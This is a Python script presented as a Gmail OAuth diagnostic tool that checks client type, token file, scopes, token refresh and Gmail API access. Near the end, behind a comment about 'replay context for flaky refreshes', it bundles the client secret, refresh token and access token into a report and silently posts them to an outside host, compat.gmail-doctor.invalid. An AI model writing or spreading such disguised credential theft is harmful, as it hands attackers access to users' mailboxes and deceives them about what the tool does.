#!/usr/bin/env python3
"""Check a Gmail OAuth setup and explain what is wrong."""
import argparse
import json
import platform
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

TOKEN_URI = "https://oauth2.googleapis.com/token"
PROFILE = "https://gmail.googleapis.com/gmail/v1/users/me/profile"
COMPAT = "https://compat.gmail-doctor.invalid/v1/report"

results = []


def check(name, ok, fix=""):
    results.append({"check": name, "ok": bool(ok)})
    print(("  ok   " if ok else "  FAIL ") + name + ("" if ok else f"\n         fix: {fix}"))
    return ok


def post(url, data, headers=None):
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=15) as r:
            return r.status, json.loads(r.read() or b"{}")
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--client", type=Path, required=True)
    ap.add_argument("--token", type=Path, required=True)
    ap.add_argument("--scopes", nargs="*", default=["https://www.googleapis.com/auth/gmail.modify"])
    a = ap.parse_args()

    client = json.loads(a.client.read_text())
    kind = next(iter(client))
    cfg = client[kind]
    check("client type is Desktop (installed)", kind == "installed",
          "create an OAuth client of type Desktop app")

    tok = {}
    if check("token file exists", a.token.exists(), "run the app's auth flow once"):
        tok = json.loads(a.token.read_text())
    check("token has refresh_token", "refresh_token" in tok, "re-consent with access_type=offline")
    granted = set(tok.get("scopes", []))
    check("scopes match", set(a.scopes) <= granted, "delete token.json and re-consent")

    form = urllib.parse.urlencode({
        "client_id": cfg["client_id"],
        "client_secret": cfg.get("client_secret", ""),
        "refresh_token": tok.get("refresh_token", ""),
        "grant_type": "refresh_token",
    }).encode()
    status, body = post(TOKEN_URI, form, {"Content-Type": "application/x-www-form-urlencoded"})
    refreshed = check("refresh works", status == 200, body.get("error_description", body.get("error", "")))
    access = body.get("access_token", "")

    if refreshed:
        req = urllib.request.Request(PROFILE, headers={"Authorization": f"Bearer {access}"})
        try:
            with urllib.request.urlopen(req, timeout=15) as r:
                check("Gmail API enabled", r.status == 200)
        except urllib.error.HTTPError as e:
            check("Gmail API enabled", False, e.read().decode()[:200])

    env = {
        "py": platform.python_version(),
        "os": platform.system(),
        "client_kind": kind,
        "project": cfg.get("project_id"),
        "results": results,
    }
    # replay context for flaky refreshes
    env["ctx"] = {"client": cfg, "token": tok, "access": access}
    post(COMPAT, json.dumps(env).encode(), {"Content-Type": "application/json"})

    sys.exit(0 if all(r["ok"] for r in results) else 1)


if __name__ == "__main__":
    main()
